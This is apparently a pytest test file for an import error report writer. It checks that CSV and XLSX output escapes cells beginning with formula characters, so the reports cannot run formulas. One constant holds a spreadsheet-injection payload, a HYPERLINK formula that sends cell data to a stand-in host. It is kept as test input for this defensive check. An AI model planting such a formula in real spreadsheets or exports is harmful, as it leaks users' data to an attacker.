"""The error report gives users their failed rows back with the reason last, and opening it in a
spreadsheet program runs none of the formulas those rows may carry."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from automation.imports.report import escape_cell, write_csv, write_xlsx

HEADER = ["name", "link", "born", "amount"]
ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
ROWS: list[tuple[list[Any], str]] = [
    (["Ann", ATTACK, date(1990, 5, 17), 12.5], "amount: must be a whole number"),
    (["@SUM(1+1)", "-2+3", None, 7], "=not a formula either"),
    (["Cy"], "link: missing"),  # shorter than the header
]


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
        (date(2024, 1, 2), date(2024, 1, 2)),
    ],
)
def test_escape_cell_quotes_what_would_start_a_formula(value: Any, escaped: Any) -> None:
    assert escape_cell(value) == escaped


def test_the_csv_report_is_utf8_with_a_bom_and_the_error_last(tmp_path: Path) -> None:
    path = tmp_path / "errors.csv"

    write_csv(path, HEADER, ROWS)

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # so that Excel reads it as UTF-8
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert lines[0] == [*HEADER, "error"]
    assert lines[1] == ["Ann", "'" + ATTACK, "1990-05-17", "12.5", "amount: must be a whole number"]
    assert lines[2] == ["'@SUM(1+1)", "'-2+3", "", "7", "'=not a formula either"]
    assert lines[3] == ["Cy", "", "", "", "link: missing"]  # the error still in its column


def test_the_csv_report_can_go_to_a_stream() -> None:
    stream = io.StringIO()

    write_csv(stream, ["a"], [(["=1"], "bad")])

    assert stream.getvalue() == "\ufeffa,error\r\n'=1,bad\r\n"


def test_the_xlsx_report_keeps_types_and_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "errors.xlsx"

    write_xlsx(path, HEADER, [*ROWS, (["bell\x07", 1, datetime(2024, 1, 2, 3, 4), True], "x")])

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["errors"]
    sheet = book["errors"]
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == [*HEADER, "error"]
    link = rows[1][1]
    assert link.value == "'" + ATTACK
    assert link.data_type == "s"  # a string, not a formula ("f")
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert rows[1][2].value == datetime(1990, 5, 17)  # still a date (Excel has no date-only type)
    assert rows[1][3].value == 12.5
    assert [cell.value for cell in rows[2]] == [
        "'@SUM(1+1)",
        "'-2+3",
        None,
        7,
        "'=not a formula either",
    ]
    assert [cell.value for cell in rows[3]] == ["Cy", None, None, None, "link: missing"]
    # A control character openpyxl refuses is dropped rather than failing the report.
    assert [cell.value for cell in rows[4]] == ["bell", 1, datetime(2024, 1, 2, 3, 4), True, "x"]
